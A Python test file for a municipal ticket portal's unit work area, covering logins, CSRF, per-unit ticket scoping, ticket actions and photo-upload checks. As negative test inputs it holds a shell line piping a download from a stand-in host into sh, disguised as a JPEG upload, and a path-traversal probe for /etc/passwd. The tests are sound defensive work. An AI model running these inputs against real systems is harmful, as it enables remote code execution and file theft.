"""The units' work portal (/work/) against a real Redis, built by create_app: unit accounts (store and CLI),
login, what each unit sees, 签收 / 退单 / 进展 / 办结 with the dispatch stream acknowledged, photos (type by
magic bytes, size), a 网格员's patrol report, and the console operator's view of a unit's photo."""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from aiohttp import FormData, web
from aiohttp.test_utils import TestClient

from router import keys
from router.adapters.dispatch import GROUP, Dispatcher
from router.adapters.units import InvalidUnit, UnitExists, UnitStore
from router.app import Deps, create_app
from router.appkeys import TICKET_SERVICE, TICKETS
from router.console.users import UserStore
from router.domain.tickets import Status, Ticket
from router.settings import ROOT, Settings
from tests.conftest import shared_domain

PASSWORD = "street patrol 2026"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(200)
JPEG = b"\xff\xd8\xff\xe0" + bytes(300)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"

UNITS = (
    ("cg1", "department", "区城管局"),
    ("sw1", "department", "区水务局"),
    ("yh1", "street", "粤海街道办事处"),
    ("kjy1", "community", "科技园社区综治中心"),
    ("g01", "grid", "G01网格员"),
)


def build_app(redis: Any, var_dir: Path) -> web.Application:
    return create_app(Settings(api_token="api-token", var_dir=var_dir),
                      Deps(redis=redis, domain=shared_domain()), with_scheduler=False)


@pytest.fixture
async def portal(redis, tmp_path, monkeypatch, aiohttp_server) -> dict[str, Any]:
    monkeypatch.delenv("VAR_DIR", raising=False)
    store = UnitStore(redis)
    for name, kind, unit in UNITS:
        await store.add(name, kind, unit, PASSWORD)
    app = build_app(redis, tmp_path)
    server = await aiohttp_server(app)  # started: the stores exist
    return {"app": app, "server": server, "redis": redis, "var_dir": tmp_path}


async def login(aiohttp_client, server: Any, name: str, password: str = PASSWORD) -> TestClient:
    client = await aiohttp_client(server)
    page = await (await client.get("/work/login")).text()
    token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    resp = await client.post("/work/login", data={"username": name, "password": password, "csrf": token,
                                                   "next": "/work/tickets"})
    assert resp.status == 200, await resp.text()
    assert str(resp.url).endswith("/work/tickets")
    return client


async def csrf_of(client: TestClient, path: str = "/work/tickets") -> str:
    page = await (await client.get(path)).text()
    return re.search(r'name="csrf" value="([^"]+)"', page).group(1)


async def dispatched(app: web.Application, department: str, *, text: str = "人行道上的井盖松了，走上去会晃",
                     street: str = "粤海街道", community: str = "科技园社区", grid: str | None = None) -> Ticket:
    store = app[TICKETS]
    location = {"district": "南山区", "street": street, "community": community, **({"grid": grid} if grid else {})}
    ticket = await store.create({"text": text, "channel": "web", "location": location}, actor="test")
    return await store.transition(ticket.id, "dispatch", "console:op1", department=department)


def photo_form(csrf: str, text: str, content: bytes | io.BytesIO | None, *, filename: str = "photo.jpg",
               content_type: str = "image/jpeg") -> FormData:
    form = FormData()
    form.add_field("csrf", csrf)
    form.add_field("text", text)
    if content is not None:
        form.add_field("photo", content, filename=filename, content_type=content_type)
    return form


def uploads(var_dir: Path) -> list[str]:
    folder = var_dir / "uploads"
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith(".")) if folder.exists() else []


# ------------------------------------------------------------------------------------------ accounts


async def test_unit_store_hashes_passwords_and_checks_what_it_is_given(redis) -> None:
    store = UnitStore(redis)
    unit = await store.add("cg1", "department", "区城管局", PASSWORD)
    stored = await redis.hget(keys.unit_user("cg1"), "password")
    assert stored.startswith("scrypt$") and PASSWORD not in stored
    assert (await store.authenticate("cg1", PASSWORD)) == unit
    assert await store.authenticate("cg1", "wrong password!") is None
    with pytest.raises(UnitExists):
        await store.add("cg1", "department", "区城管局", PASSWORD)
    with pytest.raises(InvalidUnit, match="kind"):
        await store.add("x1", "bureau", "区城管局", PASSWORD)
    with pytest.raises(InvalidUnit, match="网格员"):
        await store.add("x2", "grid", "G01", PASSWORD)
    with pytest.raises(InvalidUnit, match="at least"):
        await store.add("x3", "department", "区城管局", "short")
    assert [u.name for u in await store.list()] == ["cg1"]
    await store.set_disabled("cg1", True)
    assert await store.authenticate("cg1", PASSWORD) is None


def test_units_cli_adds_with_piped_or_generated_password_and_lists(redis_url) -> None:
    env = {**os.environ, "REDIS_URL": redis_url}
    cmd = [sys.executable, "-m", "router.portal", "units"]
    piped = subprocess.run([*cmd, "add", "wang", "--kind", "grid", "--unit", "G01网格员"], input=f"{PASSWORD}\n",
                           capture_output=True, text=True, env=env, cwd=ROOT, timeout=60)
    assert piped.returncode == 0, piped.stderr
    assert PASSWORD not in piped.stdout
    generated = subprocess.run([*cmd, "add", "cg9", "--kind", "department", "--unit", "区城管局"],
                               stdin=subprocess.DEVNULL, capture_output=True, text=True, env=env, cwd=ROOT,
                               timeout=60)
    assert generated.returncode == 0, generated.stderr
    assert re.search(r"^cg9 / \S{16}$", generated.stdout, re.M)
    bad = subprocess.run([*cmd, "add", "yh9", "--kind", "street", "--unit", "粤海街道"], input=f"{PASSWORD}\n",
                         capture_output=True, text=True, env=env, cwd=ROOT, timeout=60)
    assert bad.returncode == 2 and "街道办事处" in bad.stderr
    listed = subprocess.run([*cmd, "list"], capture_output=True, text=True, env=env, cwd=ROOT, timeout=60)
    assert listed.returncode == 0
    assert "wang\tgrid\tG01网格员\tactive" in listed.stdout
    assert "cg9\tdepartment\t区城管局\tactive" in listed.stdout


async def test_login_is_required_and_a_wrong_password_is_refused(portal, aiohttp_client) -> None:
    client = await aiohttp_client(portal["server"])
    resp = await client.get("/work/tickets", allow_redirects=False)
    assert resp.status == 303 and resp.headers["Location"].startswith("/work/login")
    page = await (await client.get("/work/login")).text()
    token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    resp = await client.post("/work/login", data={"username": "cg1", "password": "not the password", "csrf": token})
    assert resp.status == 401
    assert "账号或密码不对" in await resp.text()
    resp = await client.post("/work/tickets/SZ20260101-000001/accept", data={"csrf": "x"})
    assert resp.status == 401


async def test_a_post_without_the_csrf_token_is_refused(portal, aiohttp_client) -> None:
    ticket = await dispatched(portal["app"], "区城管局")
    client = await login(aiohttp_client, portal["server"], "cg1")
    resp = await client.post(f"/work/tickets/{ticket.id}/accept", data={"csrf": "forged"})
    assert resp.status == 403
    assert (await portal["app"][TICKETS].require(ticket.id)).status is Status.DISPATCHED


# ------------------------------------------------------------------------------------------- scoping


async def test_a_unit_sees_and_moves_only_its_own_tickets(portal, aiohttp_client) -> None:
    app = portal["app"]
    ours = await dispatched(app, "区城管局", text="小区门口的井盖丢了")
    theirs = await dispatched(app, "区水务局", text="楼下水管爆裂一直在漏水")
    client = await login(aiohttp_client, portal["server"], "cg1")
    page = await (await client.get("/work/tickets")).text()
    assert ours.id in page and "小区门口的井盖丢了" in page
    assert theirs.id not in page and "水管爆裂" not in page
    resp = await client.get(f"/work/tickets/{theirs.id}")
    assert resp.status == 404
    assert "水管爆裂" not in await resp.text()
    token = await csrf_of(client)
    for action, data in (("accept", {}), ("return", {"reason": "不归我们"}), ("note", {"text": "x"}),
                         ("resolve", {"text": "x"})):
        resp = await client.post(f"/work/tickets/{theirs.id}/{action}", data={"csrf": token, **data})
        assert resp.status == 404, action
    assert (await app[TICKETS].require(theirs.id)).status is Status.DISPATCHED
    assert (await client.get("/work/tickets/SZ20990101-000001")).status == 404


async def test_a_street_office_sees_its_communities_work_but_moves_only_its_own(portal, aiohttp_client) -> None:
    app = portal["app"]
    own = await dispatched(app, "粤海街道办事处", text="路边摊占道经营")
    community = await dispatched(app, "科技园社区综治中心", text="楼上邻居装修太吵调解")
    elsewhere = await dispatched(app, "新安社区综治中心", street="新安街道", community="新安社区",
                                 text="房东不退押金")
    client = await login(aiohttp_client, portal["server"], "yh1")
    page = await (await client.get("/work/tickets")).text()
    assert own.id in page and community.id in page
    assert elsewhere.id not in page
    detail = await (await client.get(f"/work/tickets/{community.id}")).text()
    assert "楼上邻居装修太吵" in detail and 'id="accept"' not in detail  # read-only for the street office
    token = await csrf_of(client)
    assert (await client.post(f"/work/tickets/{community.id}/accept", data={"csrf": token})).status == 404
    assert (await client.get(f"/work/tickets/{elsewhere.id}")).status == 404
    # the community itself sees only its own
    kjy = await login(aiohttp_client, portal["server"], "kjy1")
    page = await (await kjy.get("/work/tickets")).text()
    assert community.id in page and own.id not in page


async def test_the_list_marks_overdue_and_supervised_tickets(portal, aiohttp_client) -> None:
    app = portal["app"]
    ticket = await dispatched(app, "区城管局", text="垃圾好几天没人清运")
    store = app[TICKETS]
    late = ticket.sla_deadline.replace(year=ticket.sla_deadline.year + 1)
    await store.transition(ticket.id, "escalate", "system:sla", at=late)
    client = await login(aiohttp_client, portal["server"], "cg1")
    page = await (await client.get("/work/tickets")).text()
    assert "督办·街道" in page
    fresh = await dispatched(app, "区城管局", text="路灯不亮")
    page = await (await client.get(f"/work/tickets/{fresh.id}")).text()
    assert "剩余" in page and "已超时" not in page


# ------------------------------------------------------------------------------------------- actions


async def test_accept_goes_through_the_dispatch_stream_and_acknowledges_it(portal, aiohttp_client) -> None:
    app, redis = portal["app"], portal["redis"]
    other = await dispatched(app, "区城管局", text="共享单车堆满人行道")
    ticket = await dispatched(app, "区城管局")
    client = await login(aiohttp_client, portal["server"], "cg1")
    page = await (await client.get(f"/work/tickets/{ticket.id}")).text()
    assert 'id="accept"' in page
    resp = await client.post(f"/work/tickets/{ticket.id}/accept", data={"csrf": await csrf_of(client)})
    assert resp.status == 200 and "已签收" in await resp.text()
    moved = await app[TICKETS].require(ticket.id)
    assert moved.status is Status.IN_PROGRESS and moved.history[-1].actor == "unit:cg1"
    stream = keys.dispatch_stream("区城管局")
    pending = await redis.xpending_range(stream, GROUP, min="-", max="+", count=10)
    entries = {e: f["ticket_id"] for e, f in await redis.xrange(stream)}
    assert ticket.id not in {entries[p["message_id"]] for p in pending}  # acknowledged
    # the other ticket's entry is still there for whoever takes it
    claims = await Dispatcher(redis, app[TICKET_SERVICE], min_idle_ms=0).claim("区城管局", "worker", count=10)
    assert [c.ticket_id for c in claims] == [other.id]
    # a second 签收 is not a legal move
    resp = await client.post(f"/work/tickets/{ticket.id}/accept", data={"csrf": await csrf_of(client)})
    assert resp.status == 409 and "处置" in await resp.text()


async def test_return_needs_a_reason_and_hands_the_ticket_back(portal, aiohttp_client) -> None:
    app, redis = portal["app"], portal["redis"]
    ticket = await dispatched(app, "区城管局", text="小区里的路灯坏了")
    client = await login(aiohttp_client, portal["server"], "cg1")
    token = await csrf_of(client)
    resp = await client.post(f"/work/tickets/{ticket.id}/return", data={"csrf": token, "reason": "  "})
    assert resp.status == 422 and "退单理由" in await resp.text()
    resp = await client.post(f"/work/tickets/{ticket.id}/return", data={"csrf": token, "reason": "路灯归供电局管"})
    assert resp.status == 200 and "已退单" in await resp.text()
    back = await app[TICKETS].require(ticket.id)
    assert back.status is Status.RETURNED and back.assignee is None
    assert back.history[-1].reason == "路灯归供电局管" and back.history[-1].actor == "unit:cg1"
    assert int((await redis.xpending(keys.dispatch_stream("区城管局"), GROUP))["pending"]) == 0
    assert (await client.get(f"/work/tickets/{ticket.id}")).status == 404  # no longer ours


async def test_note_with_a_photo_then_resolve_with_the_result(portal, aiohttp_client) -> None:
    app = portal["app"]
    ticket = await dispatched(app, "区城管局")
    client = await login(aiohttp_client, portal["server"], "cg1")
    token = await csrf_of(client)
    # a note before 签收 is not a legal move
    resp = await client.post(f"/work/tickets/{ticket.id}/note", data=photo_form(token, "已到现场", PNG))
    assert resp.status == 409
    assert uploads(portal["var_dir"]) == []  # the refused note's photo is not kept
    await client.post(f"/work/tickets/{ticket.id}/accept", data={"csrf": token})
    resp = await client.post(f"/work/tickets/{ticket.id}/note", data=photo_form(token, "  ", None))
    assert resp.status == 422 and "请填写进展内容" in await resp.text()
    resp = await client.post(f"/work/tickets/{ticket.id}/note",
                             data=photo_form(token, "已到现场，井盖已临时围挡", PNG, filename="IMG_1.png",
                                             content_type="image/png"))
    assert resp.status == 200, await resp.text()
    noted = await app[TICKETS].require(ticket.id)
    assert noted.status is Status.IN_PROGRESS
    assert noted.history[-1].action == "note" and noted.history[-1].reason == "已到现场，井盖已临时围挡"
    photo = noted.history[-1].data["photo"]
    assert re.fullmatch(r"[0-9a-f]{32}\.png", photo) and uploads(portal["var_dir"]) == [photo]
    page = await (await client.get(f"/work/tickets/{ticket.id}")).text()
    assert f"/work/tickets/{ticket.id}/photos/{photo}" in page and "已到现场，井盖已临时围挡" in page
    got = await client.get(f"/work/tickets/{ticket.id}/photos/{photo}")
    assert got.status == 200 and got.headers["Content-Type"] == "image/png" and await got.read() == PNG
    # another unit cannot see it, not even with the name
    other = await login(aiohttp_client, portal["server"], "sw1")
    assert (await other.get(f"/work/tickets/{ticket.id}/photos/{photo}")).status == 404
    # 办结 needs the result the resident will read
    resp = await client.post(f"/work/tickets/{ticket.id}/resolve", data=photo_form(token, "", None))
    assert resp.status == 422
    resp = await client.post(f"/work/tickets/{ticket.id}/resolve",
                             data=photo_form(token, "已更换新井盖，恢复通行", JPEG))
    assert resp.status == 200 and "已办结" in await resp.text()
    done = await app[TICKETS].require(ticket.id)
    assert done.status is Status.RESOLVED and done.history[-1].reason == "已更换新井盖，恢复通行"
    assert done.history[-1].data["photo"].endswith(".jpg")
    resp = await client.post(f"/work/tickets/{ticket.id}/resolve", data=photo_form(token, "再办结一次", None))
    assert resp.status == 409


# -------------------------------------------------------------------------------------------- uploads


async def test_bad_uploads_are_refused_and_nothing_is_kept(portal, aiohttp_client) -> None:
    app = portal["app"]
    ticket = await dispatched(app, "区城管局")
    client = await login(aiohttp_client, portal["server"], "cg1")
    token = await csrf_of(client)
    await client.post(f"/work/tickets/{ticket.id}/accept", data={"csrf": token})
    url = f"/work/tickets/{ticket.id}/note"
    resp = await client.post(url, data=photo_form(token, "现场照片", SCRIPT, filename="photo.jpg"))
    assert resp.status == 415 and "JPG" in await resp.text()
    resp = await client.post(url, data=photo_form(token, "现场照片", b"GIF89a" + bytes(100), filename="a.gif",
                                                   content_type="image/gif"))
    assert resp.status == 415
    resp = await client.post(url, data=photo_form(token, "现场照片", io.BytesIO(b"\xff\xd8\xff" + bytes(20 * 1024 * 1024))))
    assert resp.status == 413 and "5 MB" in await resp.text()

    async def chunked() -> Any:  # no Content-Length: refused while streaming, once past 5 MB
        boundary = "b0undary"
        yield (f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{token}\r\n"
               f"--{boundary}\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nx\r\n"
               f"--{boundary}\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.jpg\"\r\n"
               "Content-Type: image/jpeg\r\n\r\n").encode() + b"\xff\xd8\xff"
        for _ in range(7):
            yield bytes(1024 * 1024)
        yield f"\r\n--{boundary}--\r\n".encode()

    resp = await client.post(url, data=chunked(), headers={"Content-Type": "multipart/form-data; boundary=b0undary"})
    assert resp.status == 413
    assert uploads(portal["var_dir"]) == []
    assert [h.action for h in (await app[TICKETS].require(ticket.id)).history][-1] == "accept"


# -------------------------------------------------------------------------------------------- patrol


async def test_a_grid_worker_reports_a_hazard_with_a_photo(portal, aiohttp_client) -> None:
    app = portal["app"]
    client = await login(aiohttp_client, portal["server"], "g01")
    page = await (await client.get("/work/report")).text()
    token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    form = FormData()
    form.add_field("csrf", token)
    form.add_field("text", "科技园社区3栋消防通道被杂物堵住")
    form.add_field("address", "3栋东侧")
    form.add_field("photo", JPEG, filename="hazard.jpg", content_type="image/jpeg")
    resp = await client.post("/work/report", data=form)
    assert resp.status == 200, await resp.text()
    ticket_id = re.search(r"/work/tickets/(SZ\d{8}-\d{6})", str(resp.url)).group(1)
    ticket = await app[TICKETS].require(ticket_id)
    assert ticket.channel == "grid" and ticket.history[0].actor == "unit:g01"
    assert ticket.location.grid == "G01" and ticket.location.address == "3栋东侧"
    page = await resp.text()
    assert "已上报" in page and "查看现场照片" in page
    listed = await (await client.get("/work/tickets")).text()
    assert ticket_id in listed
    photo = re.search(r"/photos/([0-9a-f]{32}\.jpg)", page).group(1)
    assert (await client.get(f"/work/tickets/{ticket_id}/photos/{photo}")).status == 200
    # an empty report is refused; other units do not report from patrol
    resp = await client.post("/work/report", data={"csrf": token, "text": " "})
    assert resp.status == 422
    cg = await login(aiohttp_client, portal["server"], "cg1")
    assert (await cg.post("/work/report", data={"csrf": await csrf_of(cg), "text": "x"})).status == 403


async def test_a_console_operator_sees_a_units_photo_but_nobody_else(portal, aiohttp_client) -> None:
    app = portal["app"]
    ticket = await dispatched(app, "区城管局")
    client = await login(aiohttp_client, portal["server"], "cg1")
    token = await csrf_of(client)
    await client.post(f"/work/tickets/{ticket.id}/accept", data={"csrf": token})
    await client.post(f"/work/tickets/{ticket.id}/note", data=photo_form(token, "现场", JPEG))
    photo = (await app[TICKETS].require(ticket.id)).history[-1].data["photo"]
    await UserStore(portal["redis"]).add("op1", "operator", PASSWORD)
    console = await aiohttp_client(portal["server"])
    assert (await console.get(f"/console/work-photos/{ticket.id}/{photo}")).status == 401
    page = await (await console.get("/console/login")).text()
    token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    await console.post("/console/login", data={"username": "op1", "password": PASSWORD, "csrf": token,
                                               "next": "/console/queue"})
    detail = await (await console.get(f"/console/tickets/{ticket.id}")).text()
    assert f"/console/work-photos/{ticket.id}/{photo}" in detail
    got = await console.get(f"/console/work-photos/{ticket.id}/{photo}")
    assert got.status == 200 and await got.read() == JPEG
    assert (await console.get(f"/console/work-photos/SZ20990101-000001/{photo}")).status == 404


async def test_accepting_a_supervised_ticket_still_acknowledges_its_dispatch(portal, aiohttp_client) -> None:
    app, redis = portal["app"], portal["redis"]
    ticket = await dispatched(app, "区城管局", text="工地夜间施工噪音")
    late = ticket.sla_deadline.replace(year=ticket.sla_deadline.year + 1)
    await app[TICKETS].transition(ticket.id, "escalate", "system:sla", at=late)  # 督办 before anyone signed
    client = await login(aiohttp_client, portal["server"], "cg1")
    resp = await client.post(f"/work/tickets/{ticket.id}/accept", data={"csrf": await csrf_of(client)})
    assert resp.status == 200
    assert (await app[TICKETS].require(ticket.id)).status is Status.IN_PROGRESS
    assert int((await redis.xpending(keys.dispatch_stream("区城管局"), GROUP))["pending"]) == 0
    assert await Dispatcher(redis, app[TICKET_SERVICE], min_idle_ms=0).claim("区城管局", "worker") == []


async def test_a_disabled_login_is_logged_out_at_its_next_request(portal, aiohttp_client) -> None:
    client = await login(aiohttp_client, portal["server"], "cg1")
    assert (await client.get("/work/tickets")).status == 200
    await UnitStore(portal["redis"]).set_disabled("cg1", True)
    resp = await client.get("/work/tickets", allow_redirects=False)
    assert resp.status == 303 and resp.headers["Location"].startswith("/work/login")


async def test_a_photo_is_shown_only_with_the_ticket_it_belongs_to(portal, aiohttp_client) -> None:
    app = portal["app"]
    first = await dispatched(app, "区城管局", text="井盖松动")
    second = await dispatched(app, "区城管局", text="路面塌陷一个坑")
    client = await login(aiohttp_client, portal["server"], "cg1")
    token = await csrf_of(client)
    await client.post(f"/work/tickets/{first.id}/accept", data={"csrf": token})
    await client.post(f"/work/tickets/{first.id}/note", data=photo_form(token, "现场", JPEG))
    photo = (await app[TICKETS].require(first.id)).history[-1].data["photo"]
    assert (await client.get(f"/work/tickets/{first.id}/photos/{photo}")).status == 200
    assert (await client.get(f"/work/tickets/{second.id}/photos/{photo}")).status == 404
    assert (await client.get(f"/work/tickets/{first.id}/photos/..%2F..%2Fetc%2Fpasswd")).status == 404
